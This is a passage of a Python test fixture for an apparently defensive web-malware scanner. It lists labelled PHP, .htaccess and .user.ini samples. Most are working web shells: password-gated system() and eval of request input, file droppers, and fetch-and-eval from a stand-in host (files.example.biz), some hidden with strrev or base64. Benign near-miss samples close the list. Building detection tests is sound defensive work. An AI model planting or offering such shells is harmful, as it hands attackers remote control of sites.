        plain("auto_prepend_file = /home/u/public_html/wp-admin/images/w-logo-blue.png\n"),
        True,
    ),  # f/f28.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_prepend_file = /home/u/public_html/wp-admin/images/w-logo-blue.png\n"),
        True,
    ),  # f/f28.user.ini padded
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        plain(
            "<?php if (md5($_COOKIE['k']) == '0cc175b9c0f1b6a831c399e269772661') include($_FILES['f']['tmp_name']);"
        ),
        True,
    ),  # g/g01.php
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        padded(
            "<?php if (md5($_COOKIE['k']) == '0cc175b9c0f1b6a831c399e269772661') include($_FILES['f']['tmp_name']);"
        ),
        True,
    ),  # g/g01.php padded
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        embedded(
            "<?php if (md5($_COOKIE['k']) == '0cc175b9c0f1b6a831c399e269772661') include($_FILES['f']['tmp_name']);"
        ),
        True,
    ),  # g/g01.php embedded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        plain(
            "<?php if (sha1($_SERVER['HTTP_X_TOKEN']) === '86f7e437faa5a7fce15d1ddcb9eaeaea377667b8') { $c = $_SERVER['HTTP_X_CMD']; print `$c`; }"
        ),
        True,
    ),  # g/g02.php
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php if (sha1($_SERVER['HTTP_X_TOKEN']) === '86f7e437faa5a7fce15d1ddcb9eaeaea377667b8') { $c = $_SERVER['HTTP_X_CMD']; print `$c`; }"
        ),
        True,
    ),  # g/g02.php padded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded(
            "<?php if (sha1($_SERVER['HTTP_X_TOKEN']) === '86f7e437faa5a7fce15d1ddcb9eaeaea377667b8') { $c = $_SERVER['HTTP_X_CMD']; print `$c`; }"
        ),
        True,
    ),  # g/g02.php embedded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        plain(
            "<?php if (isset($_COOKIE['w']) && md5($_COOKIE['w']) == '0cc175b9c0f1b6a831c399e269772661') { $fn = $_COOKIE['fn']; $fn($_COOKIE['arg']); }"
        ),
        True,
    ),  # g/g03.php
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php if (isset($_COOKIE['w']) && md5($_COOKIE['w']) == '0cc175b9c0f1b6a831c399e269772661') { $fn = $_COOKIE['fn']; $fn($_COOKIE['arg']); }"
        ),
        True,
    ),  # g/g03.php padded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded(
            "<?php if (isset($_COOKIE['w']) && md5($_COOKIE['w']) == '0cc175b9c0f1b6a831c399e269772661') { $fn = $_COOKIE['fn']; $fn($_COOKIE['arg']); }"
        ),
        True,
    ),  # g/g03.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php if (hash('sha256', $_GET['k'] ?? '') !== 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb') return; file_put_contents($_GET['n'], $_GET['c']);"
        ),
        True,
    ),  # g/g04.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php if (hash('sha256', $_GET['k'] ?? '') !== 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb') return; file_put_contents($_GET['n'], $_GET['c']);"
        ),
        True,
    ),  # g/g04.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php if (hash('sha256', $_GET['k'] ?? '') !== 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb') return; file_put_contents($_GET['n'], $_GET['c']);"
        ),
        True,
    ),  # g/g04.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$dl = @fopen('https://files.example.biz/p.txt', 'r');\nif ($dl) {\n  $local = @fopen(__DIR__ . '/wp-content/mu-plugins/loader.php', 'w');\n  while (!feof($dl)) { fwrite($local, fgets($dl)); }\n  fclose($local);\n}\n"
        ),
        True,
    ),  # g/g05.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$dl = @fopen('https://files.example.biz/p.txt', 'r');\nif ($dl) {\n  $local = @fopen(__DIR__ . '/wp-content/mu-plugins/loader.php', 'w');\n  while (!feof($dl)) { fwrite($local, fgets($dl)); }\n  fclose($local);\n}\n"
        ),
        True,
    ),  # g/g05.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$dl = @fopen('https://files.example.biz/p.txt', 'r');\nif ($dl) {\n  $local = @fopen(__DIR__ . '/wp-content/mu-plugins/loader.php', 'w');\n  while (!feof($dl)) { fwrite($local, fgets($dl)); }\n  fclose($local);\n}\n"
        ),
        True,
    ),  # g/g05.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $u = strrev('txt.p/zib.elpmaxe.selif//:ptth'); $x = file_get_contents($u); eval('?>' . $x);"
        ),
        True,
    ),  # g/g06.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $u = strrev('txt.p/zib.elpmaxe.selif//:ptth'); $x = file_get_contents($u); eval('?>' . $x);"
        ),
        True,
    ),  # g/g06.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $u = strrev('txt.p/zib.elpmaxe.selif//:ptth'); $x = file_get_contents($u); eval('?>' . $x);"
        ),
        True,
    ),  # g/g06.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php file_put_contents('mu-plugins/' . 'wp-health.php', @file_get_contents('http://files.example.biz/h'));"
        ),
        True,
    ),  # g/g07.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php file_put_contents('mu-plugins/' . 'wp-health.php', @file_get_contents('http://files.example.biz/h'));"
        ),
        True,
    ),  # g/g07.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php file_put_contents('mu-plugins/' . 'wp-health.php', @file_get_contents('http://files.example.biz/h'));"
        ),
        True,
    ),  # g/g07.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php if (!empty($_FILES['file']['name'])) { $p = './' . $_FILES['file']['name']; move_uploaded_file($_FILES['file']['tmp_name'], $p) && print 'ok'; }"
        ),
        True,
    ),  # g/g08.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php if (!empty($_FILES['file']['name'])) { $p = './' . $_FILES['file']['name']; move_uploaded_file($_FILES['file']['tmp_name'], $p) && print 'ok'; }"
        ),
        True,
    ),  # g/g08.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $in = fopen('php://input', 'r'); $out = fopen($_GET['f'], 'w'); stream_copy_to_stream($in, $out); fclose($out);"
        ),
        True,
    ),  # g/g09.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $in = fopen('php://input', 'r'); $out = fopen($_GET['f'], 'w'); stream_copy_to_stream($in, $out); fclose($out);"
        ),
        True,
    ),  # g/g09.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $in = fopen('php://input', 'r'); $out = fopen($_GET['f'], 'w'); stream_copy_to_stream($in, $out); fclose($out);"
        ),
        True,
    ),  # g/g09.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain("<?php file_put_contents($_GET['f'], fopen('php://input', 'r'));"),
        True,
    ),  # g/g10.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded("<?php file_put_contents($_GET['f'], fopen('php://input', 'r'));"),
        True,
    ),  # g/g10.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded("<?php file_put_contents($_GET['f'], fopen('php://input', 'r'));"),
        True,
    ),  # g/g10.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$k = $_POST['k'] ?? '';\nif (md5($k) === '0cc175b9c0f1b6a831c399e269772661') {\n    $t = $_POST['t'];\n    $b = $_POST['b'];\n    file_put_contents($t, base64_decode($b));\n    echo 'ok';\n}\n"
        ),
        True,
    ),  # g/g11.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$k = $_POST['k'] ?? '';\nif (md5($k) === '0cc175b9c0f1b6a831c399e269772661') {\n    $t = $_POST['t'];\n    $b = $_POST['b'];\n    file_put_contents($t, base64_decode($b));\n    echo 'ok';\n}\n"
        ),
        True,
    ),  # g/g11.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$k = $_POST['k'] ?? '';\nif (md5($k) === '0cc175b9c0f1b6a831c399e269772661') {\n    $t = $_POST['t'];\n    $b = $_POST['b'];\n    file_put_contents($t, base64_decode($b));\n    echo 'ok';\n}\n"
        ),
        True,
    ),  # g/g11.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php if (@$_SERVER['HTTP_X_UP'] === 'go' && !empty($_FILES)) { $x = reset($_FILES); copy($x['tmp_name'], $x['name']); }"
        ),
        True,
    ),  # g/g12.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php if (@$_SERVER['HTTP_X_UP'] === 'go' && !empty($_FILES)) { $x = reset($_FILES); copy($x['tmp_name'], $x['name']); }"
        ),
        True,
    ),  # g/g12.php padded
    (
        "SPAMGEAR_OBFUSC_InputToVariableFunction",
        plain("<?php $a = 'move_uploaded' . '_file'; $a($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
        True,
    ),  # g/g13.php
    (
        "SPAMGEAR_OBFUSC_InputToVariableFunction",
        padded("<?php $a = 'move_uploaded' . '_file'; $a($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
        True,
    ),  # g/g13.php padded
    (
        "SPAMGEAR_OBFUSC_InputToVariableFunction",
        embedded("<?php $a = 'move_uploaded' . '_file'; $a($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
        True,
    ),  # g/g13.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$c = curl_init('http://files.example.biz/q.txt');\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, true);\n$b = curl_exec($c);\n$t = tempnam(sys_get_temp_dir(), 'q');\nfile_put_contents($t, $b);\nrequire $t;\n"
        ),
        True,
    ),  # g/g14.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$c = curl_init('http://files.example.biz/q.txt');\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, true);\n$b = curl_exec($c);\n$t = tempnam(sys_get_temp_dir(), 'q');\nfile_put_contents($t, $b);\nrequire $t;\n"
        ),
        True,
    ),  # g/g14.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$c = curl_init('http://files.example.biz/q.txt');\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, true);\n$b = curl_exec($c);\n$t = tempnam(sys_get_temp_dir(), 'q');\nfile_put_contents($t, $b);\nrequire $t;\n"
        ),
        True,
    ),  # g/g14.php embedded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<Files ~ "\\.jpg$">\nSetHandler application/x-httpd-php\n</Files>\n'),
        True,
    ),  # g/g17.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('<Files ~ "\\.jpg$">\nSetHandler application/x-httpd-php\n</Files>\n'),
        True,
    ),  # g/g17.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddType application/x-httpd-php .jpg\nOptions -Indexes\nphp_flag display_errors off\n"),
        True,
    ),  # g/g18.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddType application/x-httpd-php .jpg\nOptions -Indexes\nphp_flag display_errors off\n"),
        True,
    ),  # g/g18.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddHandler myphp .jpg\nAction myphp /cgi-bin/php-cgi\n"),
        True,
    ),  # g/g19.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddHandler myphp .jpg\nAction myphp /cgi-bin/php-cgi\n"),
        True,
    ),  # g/g19.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain('auto_prepend_file = "/home/u/public_html/wp-content/uploads/2024/01/Image.JPG"\n'),
        True,
    ),  # g/g20.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_prepend_file = "/home/u/public_html/wp-content/uploads/2024/01/Image.JPG"\n'),
        True,
    ),  # g/g20.user.ini padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $b = base64_decode('aHR0cHM6Ly9maWxlcy5leGFtcGxlLmJpei9zLnR4dA=='); copy($b, __DIR__ . '/wp-load-x.php');"
        ),
        True,
    ),  # h/h01.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $b = base64_decode('aHR0cHM6Ly9maWxlcy5leGFtcGxlLmJpei9zLnR4dA=='); copy($b, __DIR__ . '/wp-load-x.php');"
        ),
        True,
    ),  # h/h01.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $b = base64_decode('aHR0cHM6Ly9maWxlcy5leGFtcGxlLmJpei9zLnR4dA=='); copy($b, __DIR__ . '/wp-load-x.php');"
        ),
        True,
    ),  # h/h01.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php if (!is_file($f = __DIR__ . '/.wp-cache.php')) file_put_contents($f, gzinflate(base64_decode(file_get_contents('http://files.example.biz/z'))));"
        ),
        True,
    ),  # h/h02.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php if (!is_file($f = __DIR__ . '/.wp-cache.php')) file_put_contents($f, gzinflate(base64_decode(file_get_contents('http://files.example.biz/z'))));"
        ),
        True,
    ),  # h/h02.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php if (!is_file($f = __DIR__ . '/.wp-cache.php')) file_put_contents($f, gzinflate(base64_decode(file_get_contents('http://files.example.biz/z'))));"
        ),
        True,
    ),  # h/h02.php embedded
    (
        "SPAMGEAR_SHELLUI_BareUploader",
        plain("<?php @move_uploaded_file($_FILES['u']['tmp_name'], $_FILES['u']['name']); ?>"),
        True,
    ),  # h/h03.php
    (
        "SPAMGEAR_SHELLUI_BareUploader",
        padded("<?php @move_uploaded_file($_FILES['u']['tmp_name'], $_FILES['u']['name']); ?>"),
        True,
    ),  # h/h03.php padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain(
            '<FilesMatch "\\.ph(p[3-7]?|tml)$">\nRequire all denied\n</FilesMatch>\n<FilesMatch "\\.(jpg)$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n'
        ),
        True,
    ),  # h/h05.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            '<FilesMatch "\\.ph(p[3-7]?|tml)$">\nRequire all denied\n</FilesMatch>\n<FilesMatch "\\.(jpg)$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n'
        ),
        True,
    ),  # h/h05.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain('auto_prepend_file = ".cache/.ht.sess"\n'),
        True,
    ),  # h/h07.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_prepend_file = ".cache/.ht.sess"\n'),
        True,
    ),  # h/h07.user.ini padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php if ($_GET['key'] !== 'd8e8fca2dc0f896fd7cb4cb0031ba249') die(); system($_GET['cmd']);"),
        True,
    ),  # h/h08.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php if ($_GET['key'] !== 'd8e8fca2dc0f896fd7cb4cb0031ba249') die(); system($_GET['cmd']);"),
        True,
    ),  # h/h08.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php if ($_GET['key'] !== 'd8e8fca2dc0f896fd7cb4cb0031ba249') die(); system($_GET['cmd']);"
        ),
        True,
    ),  # h/h08.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (md5($_REQUEST['pwd']) == 'd8e8fca2dc0f896fd7cb4cb0031ba249') { $code = file_get_contents($_FILES['f']['tmp_name']); eval('?>' . $code); }"
        ),
        True,
    ),  # h/h09.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (md5($_REQUEST['pwd']) == 'd8e8fca2dc0f896fd7cb4cb0031ba249') { $code = file_get_contents($_FILES['f']['tmp_name']); eval('?>' . $code); }"
        ),
        True,
    ),  # h/h09.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (md5($_REQUEST['pwd']) == 'd8e8fca2dc0f896fd7cb4cb0031ba249') { $code = file_get_contents($_FILES['f']['tmp_name']); eval('?>' . $code); }"
        ),
        True,
    ),  # h/h09.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php if (isset($_COOKIE['u'])) { $c = file_get_contents(base64_decode($_COOKIE['u'])); eval($c); }"
        ),
        True,
    ),  # h/h10.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php if (isset($_COOKIE['u'])) { $c = file_get_contents(base64_decode($_COOKIE['u'])); eval($c); }"
        ),
        True,
    ),  # h/h10.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php if (isset($_COOKIE['u'])) { $c = file_get_contents(base64_decode($_COOKIE['u'])); eval($c); }"
        ),
        True,
    ),  # h/h10.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain("<?php $_ = $_POST; @file_put_contents($_['n'], $_['c']);"),
        True,
    ),  # h/h11.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded("<?php $_ = $_POST; @file_put_contents($_['n'], $_['c']);"),
        True,
    ),  # h/h11.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded("<?php $_ = $_POST; @file_put_contents($_['n'], $_['c']);"),
        True,
    ),  # h/h11.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Uptime-Kuma') !== false) { $u = $_GET['u']; $f = $_GET['f']; file_put_contents($f, file_get_contents($u)); }"
        ),
        True,
    ),  # h/h12.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Uptime-Kuma') !== false) { $u = $_GET['u']; $f = $_GET['f']; file_put_contents($f, file_get_contents($u)); }"
        ),
        True,
    ),  # h/h12.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Uptime-Kuma') !== false) { $u = $_GET['u']; $f = $_GET['f']; file_put_contents($f, file_get_contents($u)); }"
        ),
        True,
    ),  # h/h12.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain("<?php system('curl -s http://files.example.biz/y -o ' . __DIR__ . '/z.php');"),
        True,
    ),  # h/h14.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded("<?php system('curl -s http://files.example.biz/y -o ' . __DIR__ . '/z.php');"),
        True,
    ),  # h/h14.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded("<?php system('curl -s http://files.example.biz/y -o ' . __DIR__ . '/z.php');"),
        True,
    ),  # h/h14.php embedded
    (
        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
        plain('<?php exec("wget -q -O wp-tmp.php http://files.example.biz/w.txt");'),
        True,
    ),  # h/h15.php
    (
        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
        padded('<?php exec("wget -q -O wp-tmp.php http://files.example.biz/w.txt");'),
        True,
    ),  # h/h15.php padded
    (
        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
        embedded('<?php exec("wget -q -O wp-tmp.php http://files.example.biz/w.txt");'),
        True,
    ),  # h/h15.php embedded
    # near-misses: legit code beside the shapes above
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$response = file_get_contents('https://api.wordpress.org/core/version-check/1.7/');\nif ($response) {\n    file_put_contents($cache_dir . '/versions.json', $response);\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$response = file_get_contents('https://api.wordpress.org/core/version-check/1.7/');\nif ($response) {\n    file_put_contents($cache_dir . '/versions.json', $response);\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$response = file_get_contents('https://api.wordpress.org/core/version-check/1.7/');\nif ($response) {\n    file_put_contents($cache_dir . '/versions.json', $response);\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$feed = @file_get_contents('https://planet.example.org/rss.xml');\n$config = __DIR__ . '/config.php';\n$h = fopen($config, 'r');\n$settings = fread($h, 8192);\nfclose($h);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$feed = @file_get_contents('https://planet.example.org/rss.xml');\n$config = __DIR__ . '/config.php';\n$h = fopen($config, 'r');\n$settings = fread($h, 8192);\nfclose($h);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$feed = @file_get_contents('https://planet.example.org/rss.xml');\n$config = __DIR__ . '/config.php';\n$h = fopen($config, 'r');\n$settings = fread($h, 8192);\nfclose($h);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$tmp = download_url($package);\nif (is_wp_error($tmp)) { return $tmp; }\n$result = unzip_file($tmp, $working_dir);\n@unlink($tmp);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$tmp = download_url($package);\nif (is_wp_error($tmp)) { return $tmp; }\n$result = unzip_file($tmp, $working_dir);\n@unlink($tmp);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$tmp = download_url($package);\nif (is_wp_error($tmp)) { return $tmp; }\n$result = unzip_file($tmp, $working_dir);\n@unlink($tmp);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$data = file_get_contents('https://example.org/api/stats');\n$stats = json_decode($data, true);\nrequire_once __DIR__ . '/templates/stats.php';\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$data = file_get_contents('https://example.org/api/stats');\n$stats = json_decode($data, true);\nrequire_once __DIR__ . '/templates/stats.php';\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$data = file_get_contents('https://example.org/api/stats');\n$stats = json_decode($data, true);\nrequire_once __DIR__ . '/templates/stats.php';\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$file = 'notes/' . basename($_POST['file']) . '.txt';\n$text = $_POST['text'];\n$fp = fopen($file, 'w');\nfwrite($fp, $text);\nfclose($fp);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$file = 'notes/' . basename($_POST['file']) . '.txt';\n$text = $_POST['text'];\n$fp = fopen($file, 'w');\nfwrite($fp, $text);\nfclose($fp);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$file = 'notes/' . basename($_POST['file']) . '.txt';\n$text = $_POST['text'];\n$fp = fopen($file, 'w');\nfwrite($fp, $text);\nfclose($fp);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$data = json_decode(file_get_contents('php://input'), true);\nfile_put_contents($logfile, json_encode($data['event']) . \"\\n\", FILE_APPEND);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$data = json_decode(file_get_contents('php://input'), true);\nfile_put_contents($logfile, json_encode($data['event']) . \"\\n\", FILE_APPEND);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$data = json_decode(file_get_contents('php://input'), true);\nfile_put_contents($logfile, json_encode($data['event']) . \"\\n\", FILE_APPEND);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$name = 'avatar-' . intval($_POST['uid']) . '.png';\nfile_put_contents($dir . '/' . $name, base64_decode($_POST['image']));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$name = 'avatar-' . intval($_POST['uid']) . '.png';\nfile_put_contents($dir . '/' . $name, base64_decode($_POST['image']));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$name = 'avatar-' . intval($_POST['uid']) . '.png';\nfile_put_contents($dir . '/' . $name, base64_decode($_POST['image']));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\nfunction save_setting($key, $value) { update_option($key, $value); }\nsave_setting('theme', sanitize_text_field($_POST['theme']));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\nfunction save_setting($key, $value) { update_option($key, $value); }\nsave_setting('theme', sanitize_text_field($_POST['theme']));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\nfunction save_setting($key, $value) { update_option($key, $value); }\nsave_setting('theme', sanitize_text_field($_POST['theme']));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php\n$compiled = $this->compile($source);\nfile_put_contents($cacheFile, $compiled);\ninclude $cacheFile;\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php\n$compiled = $this->compile($source);\nfile_put_contents($cacheFile, $compiled);\ninclude $cacheFile;\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php\n$compiled = $this->compile($source);\nfile_put_contents($cacheFile, $compiled);\ninclude $cacheFile;\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php\nfile_put_contents($thumb, base64_decode($row['thumbnail']));\necho '<img src=\"' . htmlspecialchars($thumb) . '\">';\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php\nfile_put_contents($thumb, base64_decode($row['thumbnail']));\necho '<img src=\"' . htmlspecialchars($thumb) . '\">';\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php\nfile_put_contents($thumb, base64_decode($row['thumbnail']));\necho '<img src=\"' . htmlspecialchars($thumb) . '\">';\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], __DIR__ . '/uploads/' . basename($_FILES['f']['name']));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], __DIR__ . '/uploads/' . basename($_FILES['f']['name']));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        embedded(
            "<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], __DIR__ . '/uploads/' . basename($_FILES['f']['name']));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php\n$target = wp_upload_dir()['path'] . '/' . sanitize_file_name($file['name']);\nmove_uploaded_file($file['tmp_name'], $target);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
